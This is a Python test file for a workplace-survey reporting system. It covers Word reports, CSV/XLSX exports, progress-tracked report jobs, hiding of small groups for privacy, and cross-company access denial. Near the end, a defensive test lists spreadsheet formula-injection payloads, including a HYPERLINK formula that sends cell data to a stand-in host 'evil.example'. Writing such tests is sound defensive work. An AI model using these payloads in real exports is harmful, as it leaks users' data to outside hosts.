"""Word reports and table exports: made from the results service, so they hide exactly
what it hides; the report is a job with a progress page; LibreOffice opens the report.

The LibreOffice test needs `libreoffice` and `pdftotext` (Debian: libreoffice-writer-nogui,
poppler-utils); without them it is skipped, and with CI=true it fails.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import random
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
from docx import Document

import surveys.reports.jobs  # noqa: F401  registers the report job
from app.auth.caller import Caller, load_caller
from app.i18n import use_language
from app.tables import OutboxJob
from company_portal.tables import RosterEntry
from surveys.answering import service as answering
from surveys.definition import decode, questions
from surveys.reports import docx_report, exports, requests
from surveys.reports.docx_report import group_name
from surveys.results import service as results
from surveys.results.model import Figure, QuestionResult
from surveys.tables import Answer, Invitation, Response, Survey, SurveyVersion
from surveys.waves import service as waves
from surveys.waves import state as wave_clock
from surveys.waves.service import WaveCreate
from tests.factories import api_post, make_org, make_user, post_form, sign_in
from worker.runner import run_job

BANK = Path(__file__).resolve().parents[3] / "surveys" / "bank" / "needs_assessment.json"
IN_CI = os.environ.get("CI", "").lower() in ("true", "1")
COMMENT = "Serve un nido aziendale aperto anche il sabato mattina"

# Company A: departments of 20, 4 and 3 respondents (the last two under 5); B: 12 people;
# C, alone in its town: 3 people (under 5 everywhere).
A_GROUPS = {"Produzione": (22, 20), "Uffici": (6, 4), "Magazzino": (4, 3)}
B_GROUPS = {"Produzione": (14, 12)}
C_GROUPS = {"Vendite": (4, 3)}


@dataclass
class World:
    staff: UUID
    a: UUID
    b: UUID
    c: UUID
    hr_a: UUID
    hr_b: UUID
    wave: UUID


async def make_world() -> World:
    program = await make_org("program", "FareLegami", "Cremona")
    staff = await make_user("admin@farelegami.example", program, "program_admin")
    a = await make_org("company", "Officine Rossi", "Crema")
    b = await make_org("company", "Latteria Demo", "Crema")
    c = await make_org("company", "Fornace Bianchi", "Cremona")
    hr_a = await make_user("hr@rossi.example", a, "hr_manager")
    hr_b = await make_user("hr@latteria.example", b, "hr_manager")
    definition = json.loads(BANK.read_text())["ready"]
    survey = Survey(owner=program, title="Bisogni 2026")
    await survey.save()
    version = SurveyVersion(survey=survey.id, number=1, definition=definition)
    await version.save()
    for company, groups in ((a, A_GROUPS), (b, B_GROUPS), (c, C_GROUPS)):
        await add_roster(company, groups)
    wave_id = await open_wave(staff, version.id, [a, b, c])
    for company, groups in ((a, A_GROUPS), (b, B_GROUPS), (c, C_GROUPS)):
        await answer(wave_id, company, groups, definition)
    await waves.close_wave(await as_caller(staff), wave_id)
    return World(staff, a, b, c, hr_a, hr_b, wave_id)


async def add_roster(company: UUID, groups: dict[str, tuple[int, int]]) -> None:
    for department, (invited, _answered) in groups.items():
        for number in range(invited):
            ref = f"{department}-{number}"
            await RosterEntry(company=company, employee_ref=ref, name=f"Persona {ref}",
                              email=f"{ref.lower()}@{company}.example", department=department,
                              site="Sede", roster_key=f"{company}:{ref}").save()


async def open_wave(staff: UUID, version: UUID, companies: list[UUID]) -> UUID:
    caller = await as_caller(staff)
    wave = await waves.create_wave(caller, WaveCreate(
        version_id=version, title="Primavera 2026", opens_on=wave_clock.today(),
        closes_on=wave_clock.today() + timedelta(days=14), company_ids=companies,
        attribute_questions=["has_children_u14"]))
    await waves.open_wave(caller, wave.id)
    return wave.id


async def answer(wave: UUID, company: UUID, groups: dict[str, tuple[int, int]],
                 raw_definition: dict[str, Any]) -> None:
    """Store responses as the ballot box does, and mark as many invitations answered."""
    definition = decode(raw_definition)
    rng = random.Random(str(company))
    for department, (_invited, answered) in groups.items():
        for _number in range(answered):
            cleaned = answers_of(definition, rng)
            response = Response(id=uuid4(), wave=wave, company=company,
                                submitted_on=wave_clock.today(), group_values={
                                    "department": department, "site": "Sede",
                                    "has_children_u14": cleaned["has_children_u14"]})
            await response.save()
            await Answer.insert(*[Answer(response=response.id, **value) for value in
                                  answering.answer_values(definition, cleaned)])
        invited = await Invitation.select(Invitation.id, Invitation.group_values).where(
            (Invitation.wave == wave) & (Invitation.company == company)).output(load_json=True)
        mine = [row["id"] for row in invited if row["group_values"]["department"] == department]
        await Invitation.update({Invitation.answered: True}).where(
            Invitation.id.is_in(mine[:answered]))


def answers_of(definition: Any, rng: random.Random) -> dict[str, Any]:
    """One person's answers to every question, drawn at random."""
    cleaned: dict[str, Any] = {}
    for question in questions(definition):
        keys = [option.key for option in question.options]
        if question.type == "single":
            cleaned[question.key] = rng.choice(keys)
        elif question.type == "multiple":
            cleaned[question.key] = rng.sample(keys, rng.randint(1, 3))
        elif question.type == "scale":
            cleaned[question.key] = rng.randint(1, 5)
        elif question.type == "number":
            cleaned[question.key] = rng.randint(question.minimum or 0, question.maximum or 10)
        elif question.type == "grid":
            cleaned[question.key] = {row.key: rng.choice(keys) for row in question.rows}
        else:
            cleaned[question.key] = COMMENT
    return cleaned


async def as_caller(user: UUID) -> Caller:
    caller = await load_caller(user)
    assert caller is not None
    return caller


async def report_job() -> int:
    """The outbox id of the report job that asking for a report queued."""
    row = await OutboxJob.select(OutboxJob.id).where(OutboxJob.actor == "surveys.report").first()
    assert row is not None
    return int(row["id"])


# Reading a .docx ----------------------------------------------------------------------


def opened(data: bytes) -> Any:
    return Document(io.BytesIO(data))


def headings(document: Any) -> list[str]:
    return [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]


def table_rows(document: Any) -> list[list[str]]:
    """Every row of every table, as the texts of its cells."""
    return [cell_texts(row) for table in document.tables for row in table.rows]


def cell_texts(row: Any) -> list[str]:
    """The texts of a row's cells, a merged cell once (python-docx repeats it)."""
    cells: list[str] = []
    seen: list[Any] = []
    for cell in row.cells:
        if not any(cell._tc is other for other in seen):
            seen.append(cell._tc)
            cells.append(cell.text)
    return cells


def question_tables(document: Any, result: QuestionResult) -> list[list[str]]:
    """The rows of the table that follows the question's heading."""
    body = document.element.body
    heading = next(p for p in document.paragraphs
                   if p.text == result.question.text and p.style.name == "Heading 3")
    found = False
    for element in body.iterchildren():
        if element is heading._p:
            found = True
        elif found and element.tag.endswith("}tbl"):
            table = next(t for t in document.tables if t._tbl is element)
            if table.style.name == "Table Grid":
                return [cell_texts(row) for row in table.rows]
    raise AssertionError(f"no table after {result.question.text}")


def assert_same_cells(rows: list[list[str]], figures: Iterable[Figure]) -> None:
    """Each figure's row is there: hidden ones say why and hold no number."""
    for figure in figures:
        mine = [row for row in rows if row[0] == group_name(figure.group)]
        assert mine, f"no row for {group_name(figure.group)}"
        if figure.hidden:
            assert all(cell in (group_name(figure.group), figure.note) for cell in mine[0])
            assert not re.search(r"\d", "".join(mine[0][1:]).replace(figure.note, ""))
        else:
            assert str(figure.n) in mine[0]


# Reports -------------------------------------------------------------------------------


async def test_a_company_report_has_every_section_and_hides_what_the_service_hides() -> None:
    world = await make_world()
    with use_language("it"):
        found = await results.company_results(await as_caller(world.hr_a), world.a,
                                               world.wave)
        document = opened(docx_report.render(docx_report.view_of(found)))
    titles = headings(document)
    # A board reads the executive summary (its charts first); the tables are the appendix.
    board = ["Sintesi per la direzione", "I bisogni più condivisi", "Bisogni per area",
             "Chi ha risposto", "Prossimi passi", "Appendice: le tabelle complete",
             "Tasso di risposta", "Risultati per domanda", "Commenti",
             "Metodo e tutela della riservatezza"]
    assert [title for title in titles if title in board] == board
    hidden = [f for r in found.questions for f in r.figures if f.hidden]
    assert any(f.group.value == "Magazzino" for f in hidden), "the test needs a small group"
    for result in found.questions:
        assert result.question.text in titles
        assert_same_cells(question_tables(document, result), result.figures)
    rates = table_rows(document)
    for rate in found.rates:
        row = next(r for r in rates if r[0] == group_name(rate.group) and len(r) == 4)
        assert (rate.note in row) if rate.hidden else (str(rate.answered) in row)
    assert len(document.inline_shapes) > len(found.questions)  # the bars of the charts
    text = "\n".join(p.text for p in document.paragraphs)
    assert "almeno 10 rispondenti" in text and COMMENT in text


async def test_a_territory_report_in_english_shows_towns_and_hides_the_lone_company() -> None:
    world = await make_world()
    with use_language("en"):
        found = await results.program_results(await as_caller(world.staff), world.wave)
        document = opened(docx_report.render(docx_report.view_of(found)))
    titles = headings(document)
    for section in ("Executive summary", "Response rate", "Results by question",
                    "Needs by company and area", "Needs by town and area",
                    "Method and privacy"):
        assert section in titles
    for result in found.questions:
        assert_same_cells(question_tables(document, result), result.figures)
    rows = table_rows(document)
    lone = next(rate for rate in found.rates if rate.group.company_id == world.c)
    # Invited is a roster fact: shown even when answered is not.
    assert lone.hidden and [lone.group.label, str(lone.invited), lone.note, "—"] in rows
    heat = next(row for row in found.heat_companies.rows if row.group.company_id == world.c)
    assert {cell.note for cell in heat.cells} == {lone.note}
    assert rows.count([lone.group.label, lone.note]) == 1  # its heat-map row


def _office() -> tuple[str, str]:
    office, pdftotext = shutil.which("libreoffice") or shutil.which("soffice"), \
        shutil.which("pdftotext")
    if not (office and pdftotext):
        reason = ("LibreOffice or pdftotext is missing (Debian: libreoffice-writer-nogui, "
                  "poppler-utils; see .ci/test-deps)")
        if IN_CI:
            pytest.fail(reason)
        pytest.skip(reason + "; with CI=true this fails")
    return office, pdftotext


async def test_libreoffice_opens_the_report_and_its_pdf_has_the_headings_and_figures(
        tmp_path: Path) -> None:
    office, pdftotext = _office()
    world = await make_world()
    with use_language("it"):
        found = await results.company_results(await as_caller(world.hr_a), world.a,
                                               world.wave)
        (tmp_path / "report.docx").write_bytes(docx_report.render(docx_report.view_of(found)))
    profile = f"file://{tmp_path}/lo-profile"  # its own profile: parallel runs don't clash
    await asyncio.to_thread(subprocess.run, [
        office, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "pdf",
        "--outdir", str(tmp_path), str(tmp_path / "report.docx")],
        check=True, capture_output=True, timeout=180)
    text = subprocess.run([pdftotext, "-layout", str(tmp_path / "report.pdf"), "-"],
                          check=True, capture_output=True, text=True).stdout
    for heading in ("Rapporto sull'analisi dei bisogni", "Sintesi per la direzione",
                    "Tasso di risposta", "Metodo e tutela della riservatezza"):
        assert heading in text
    pages = text.split("\f")
    appendix = next(i for i, page in enumerate(pages) if "Appendice: le tabelle" in page)
    assert 2 <= appendix <= 3  # the cover, then a summary of at most two pages
    rate = found.rates[0]
    assert f"Hanno risposto {rate.answered} delle {rate.invited} persone invitate" in text
    hidden = next(f for r in found.questions for f in r.figures if f.hidden)
    assert hidden.note in " ".join(text.split())


# The job and its pages -------------------------------------------------------------------


async def test_the_report_job_shows_progress_then_the_download(client, monkeypatch) -> None:
    world = await make_world()
    await sign_in(client, world.hr_a)
    listed = await client.get("/reports")
    assert f'href="/reports/waves/{world.wave}"' in listed.text
    offered = (await client.get(f"/reports/waves/{world.wave}")).text
    assert "Prepara il rapporto aziendale" in offered and "territoriale" not in offered
    asked = await post_form(client, "/reports/", {
        "wave_id": str(world.wave), "kind": "company", "company_id": str(world.a),
        "language": "it"}, page=f"/reports/waves/{world.wave}")
    assert asked.status_code == 303
    page_url = asked.headers["location"]
    waiting = await client.get(page_url)
    assert waiting.headers["refresh"] == "2" and "In attesa" in waiting.text
    assert f'href="{page_url}"' in waiting.text  # the plain link, without JavaScript
    seen: list[tuple[int, str]] = []
    real = requests.set_progress

    async def watched(report_id: UUID, percent: int) -> None:
        await real(report_id, percent)
        page = await client.get(page_url)
        seen.append((percent, page.headers.get("refresh", "")))
        assert f"{percent}%" in page.text

    monkeypatch.setattr(requests, "set_progress", watched)
    job = await report_job()
    await run_job(job)
    assert len(seen) > 5 and all(refresh == "2" for _percent, refresh in seen)
    assert [p for p, _r in seen] == sorted(p for p, _r in seen)
    ready = await client.get(page_url)
    assert "refresh" not in ready.headers and f"{page_url}/download" in ready.text
    download = await client.get(f"{page_url}/download")
    assert download.status_code == 200
    assert "Metodo e tutela della riservatezza" in headings(opened(download.content))
    await run_job(job)  # a second delivery changes nothing
    assert (await client.get(f"{page_url}/download")).content == download.content


async def test_the_api_asks_for_a_territory_report_and_serves_it(client) -> None:
    world = await make_world()
    await sign_in(client, world.staff)
    asked = await api_post(client, "/api/v1/reports", {
        "wave_id": str(world.wave), "kind": "territory", "language": "en"})
    assert asked.status_code == 201 and asked.json()["status"] == "queued"
    report = asked.json()["id"]
    assert (await client.get(f"/api/v1/reports/{report}/file")).status_code == 404
    job = await report_job()
    await run_job(job)
    done = (await client.get(f"/api/v1/reports/{report}")).json()
    assert done["status"] == "done" and done["progress"] == 100
    document = opened((await client.get(f"/api/v1/reports/{report}/file")).content)
    assert "Needs by town and area" in headings(document)


# Exports ---------------------------------------------------------------------------------


def csv_rows(data: bytes, separator: str = ",") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=separator))


def xlsx_strings(data: bytes) -> tuple[list[str], str]:
    """The sheet names and every text of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = re.findall(r'<sheet name="([^"]+)"', book.read("xl/workbook.xml").decode())
        strings = book.read("xl/sharedStrings.xml").decode()
    return names, strings


async def test_exports_hold_the_aggregated_tables_with_the_same_hidden_cells(client) -> None:
    world = await make_world()
    await sign_in(client, world.hr_a)
    with use_language("it"):
        found = await results.company_results(await as_caller(world.hr_a), world.a,
                                               world.wave)
    base = f"/reports/waves/{world.wave}/tables"
    rows = csv_rows((await client.get(f"{base}.csv?company={world.a}&lang=it")).content)
    assert rows[0][:3] == ["Domanda", "Area", "Gruppo"]
    for result in found.questions:
        for figure in result.figures:
            mine = [r for r in rows[1:] if r[0] == result.question.text
                    and r[2] == group_name(figure.group)]
            if figure.hidden:
                assert mine == [[result.question.text, result.question.area_label,
                                 group_name(figure.group), "", "", *[figure.note] * 4]]
            else:
                assert {r[5] for r in mine} == {str(figure.n)}
    italian = csv_rows((await client.get(
        f"{base}.csv?company={world.a}&table=rates&sep=semicolon")).content, ";")
    assert re.fullmatch(r"\d+,\d|\d+", italian[1][3])  # decimal comma with semicolons
    names, strings = xlsx_strings((await client.get(f"{base}.xlsx?company={world.a}")).content)
    assert names == ["Risultati per domanda", "Tasso di risposta", "Bisogni", "Incroci"]
    assert next(f for r in found.questions for f in r.figures if f.hidden).note in strings
    everything = json.dumps(rows) + strings
    assert COMMENT not in everything and "Persona" not in everything  # no raw answers


async def test_program_staff_export_the_territory_and_hr_cannot(client) -> None:
    world = await make_world()
    await sign_in(client, world.staff)
    base = f"/reports/waves/{world.wave}/tables"
    with use_language("it"):
        found = await results.program_results(await as_caller(world.staff), world.wave)
    note = next(rate.note for rate in found.rates if rate.group.company_id == world.c)
    heat = csv_rows((await client.get(f"{base}.csv?table=heatmap")).content)
    lone = [row for row in heat if row[1] == "Fornace Bianchi"]
    assert lone and all(row[3:] == [note] * 3 for row in lone)
    await sign_in(client, world.hr_a)
    assert (await client.get(f"{base}.csv?table=heatmap")).status_code == 404
    assert (await client.get(f"{base}.xlsx")).status_code == 404


# Tenancy -----------------------------------------------------------------------------------


async def test_hr_of_one_company_gets_404_on_another_companys_reports_and_exports(
        client) -> None:
    world = await make_world()
    report = await requests.request_report(await as_caller(world.hr_a), requests.ReportCreate(
        world.wave, "company", world.a))
    await sign_in(client, world.hr_b)
    for path in (f"/reports/{report.id}", f"/reports/{report.id}/download",
                 f"/api/v1/reports/{report.id}", f"/api/v1/reports/{report.id}/file",
                 f"/reports/waves/{world.wave}/tables.csv?company={world.a}",
                 f"/reports/waves/{world.wave}/tables.xlsx?company={world.a}",
                 f"/api/v1/reports/waves/{world.wave}/tables.csv?company_id={world.a}"):
        assert (await client.get(path)).status_code == 404, path
    for body in ({"wave_id": str(world.wave), "kind": "company", "company_id": str(world.a)},
                 {"wave_id": str(world.wave), "kind": "territory"}):
        assert (await api_post(client, "/api/v1/reports", body)).status_code == 404
    assert (await client.get(f"/api/v1/reports/waves/{world.wave}")).json() == []
    outsider = await make_org(name="Cascina Esterna")
    await sign_in(client, await make_user("hr@esterna.example", outsider, "hr_manager"))
    assert (await client.get(f"/api/v1/reports/waves/{world.wave}")).status_code == 404
    employee = await make_user("worker@rossi.example", world.a, "employee")
    await sign_in(client, employee)
    assert (await client.get(f"/reports/waves/{world.wave}")).status_code == 404


def test_csv_is_excel_friendly() -> None:
    table = exports.ExportTable("rates", "Tasso", ["Gruppo", "Quota"],
                                [["Città", exports.Percent(0.425)], ["Più", "meno di 5"]])
    assert exports.to_csv(table, ";").decode("utf-8-sig").splitlines() == [
        "Gruppo;Quota", "Città;42,5", "Più;meno di 5"]
    assert exports.to_csv(table).decode("utf-8-sig").splitlines()[1] == "Città,42.5"


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Rossi")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def test_exports_neutralise_formulas_and_keep_text_as_text() -> None:
    table = exports.ExportTable("rates", "=Tasso", ["=Gruppo", "Quota"],
                                [[name, exports.Percent(0.5)] for name in FORMULAS]
                                + [["-", -3]])
    rows = csv_rows(exports.to_csv(table))
    assert rows[0] == ["'=Gruppo", "Quota"]
    assert [row[0] for row in rows[1:]] == ["'" + name for name in FORMULAS] + ["'-"]
    assert rows[-1][1] == "-3"  # a number stays a number
    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx([table]))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" not in sheet
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
    assert '<c r="B8"><v>-3</v></c>' in sheet or '<c r="B8" t="n"><v>-3</v></c>' in sheet
